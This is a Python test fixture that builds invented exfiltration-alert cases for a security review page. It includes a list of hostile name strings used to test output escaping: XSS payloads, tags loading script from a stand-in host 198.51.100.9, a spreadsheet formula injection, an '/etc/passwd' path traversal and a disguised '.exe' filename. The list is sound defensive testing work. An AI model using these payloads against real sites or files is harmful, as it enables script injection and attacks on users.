"""Documents of cases for tests of the review page, as ``anomaly.findings`` makes them, and names made to do harm."""

from datetime import UTC, date, datetime, timedelta
from typing import Any

DAY = datetime.now(UTC).date() - timedelta(days=3)
"""Of these days: what a workflow would have hidden is asked of the last 90."""
SCRIPT = "<script>alert(1)</script>"
PIECES = (
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "</title></textarea></style><script src=http://198.51.100.9/x.js></script>",
    "{{ 7 * 7 }}{% raw %}",
    "report‮fdp.exe",
    "a​b‏c\x00d\x1b[31m",
    "<a href=//198.51.100.9/ hx-get=//198.51.100.9/ hx-trigger=load>",
    "<link rel=stylesheet href=http://198.51.100.9/x.css>",
    "<meta http-equiv=refresh content='0;url=http://198.51.100.9/'>",
    "<base href=http://198.51.100.9/>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=http://198.51.100.9/><button>",
    "=cmd|' /C calc'!A0",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<div style=position:fixed;inset:0>",
    "\ud800 lone",
    "../../etc/passwd?a=1&b=2#c",
    "a" * 300,
    "`${alert(1)}`",
    "]]><!--",
    "ﷺ‮‭⁦ mixed",
)


def hostile_names(count: int) -> list[str]:
    """Return that many different names that try to be more than text."""
    return [f"{PIECES[nth % len(PIECES)]}-{nth}" for nth in range(count)]


def case_id(number: int) -> str:
    """Return the id of an invented case."""
    return f"{number:032x}"


def document(number: int = 1, day: date = DAY, **changes: Any) -> dict[str, Any]:
    """Return an invented case's document; ``changes`` replace what it says."""
    said: dict[str, Any] = {
        "schema": 1,
        "case_id": case_id(number),
        "day": day.isoformat(),
        "rank": number,
        "cases": 40,
        "alert": number <= 3,
        "covered": False,
        "score": 0.9 - number / 100,
        "tail_probability": 0.0004,
        "expected_per_day": 0.12 * number,
        "confidence": {"value": 0.84, "gaps": ["12 of 96 reads have no size in the log"]},
        "headline": f"read 412 GB from customer-exports; its busiest day in 30 was 3.1 GB ({number})",
        "family": "volume",
        "reasons": [
            "read 412 GB; its busiest day in 30 was 3.1 GB",
            "came from a network that it never used before",
            "listed the bucket, then read it in key order",
        ],
        "identity": f"arn:aws:iam::111122223333:user/ana-{number}",
        "identity_kind": "human",
        "identity_account": "111122223333",
        "session_name": "",
        "actors": [f"arn:aws:iam::111122223333:user/ana-{number}"],
        "credentials": [{"access_key_id": "AKIAEXAMPLE", "lifetime": "long-lived", "role_chain": None, "acts": 96}],
        "sources": [{"address": "203.0.113.7", "network": "AS64500 Example", "country": "NL"}],
        "tools": ["rclone"],
        "buckets": [
            {
                "bucket": "customer-exports",
                "sensitivity": "restricted",
                "owner": "sales@corp.example",
                "bytes_read": 412_000_000_000,
                "objects": 96,
            }
        ],
        "objects": {
            "taken": 96,
            "largest": ["customer-exports/2026/03/all.parquet", "customer-exports/2026/02/all.parquet"],
        },
        "destinations": [{"destination": "aws-account:999988887777", "relation": "foreign", "account": "999988887777"}],
        "bytes_read": 412_000_000_000,
        "objects_taken": 96,
        "start": f"{day}T02:11:09Z",
        "end": f"{day}T04:40:51Z",
        "workflow": "none",
        "workflow_detail": "no approved workflow names this identity and what it moved",
        "attack": [{"technique": "T1048", "name": "Exfiltration Over Alternative Protocol"}],
        "counterfactual": {"says": "It would rank 31st of 40 cases had it read at most 3.1 GB."},
        "timeline": [
            _step(day, "list", "ListObjectsV2", 4, None),
            _step(day, "read", "GetObject", 96, 412_000_000_000),
        ],
        "evidence": [{"file": "trail/111122223333_us-east-1.json.gz", "records": 100, "ordinals": list(range(12))}],
        "sessions": [
            {
                "session_id": f"{number:032x}",
                "identity": f"arn:aws:iam::111122223333:user/ana-{number}",
                "rank": number,
                "headline": "read 412 GB",
            }
        ],
        "model_version": 3,
        "history": [_history(day, "bytes read", "bytes", 412e9), _history(day, "objects read", "objects", 96)],
    }
    return said | changes


def _step(day: date, operation: str, api: str, acts: int, size: int | None) -> dict[str, Any]:
    return {
        "first": f"{day}T02:11:09Z",
        "last": f"{day}T02:19:40Z",
        "operation": operation,
        "api": api,
        "outcome": "ok",
        "acts": acts,
        "buckets": 1,
        "bucket": "customer-exports",
        "bytes_read": size,
    }


def _history(day: date, says: str, unit: str, value: float) -> dict[str, Any]:
    past = [
        {"day": (day - timedelta(days=back)).isoformat(), "value": value / (90 + back)} for back in range(30, 0, -1)
    ]
    past[7]["value"] = None
    series = [*past, {"day": day.isoformat(), "value": value}]
    return {"signal": says.replace(" ", "_"), "says": says, "unit": unit, "value": value, "series": series}
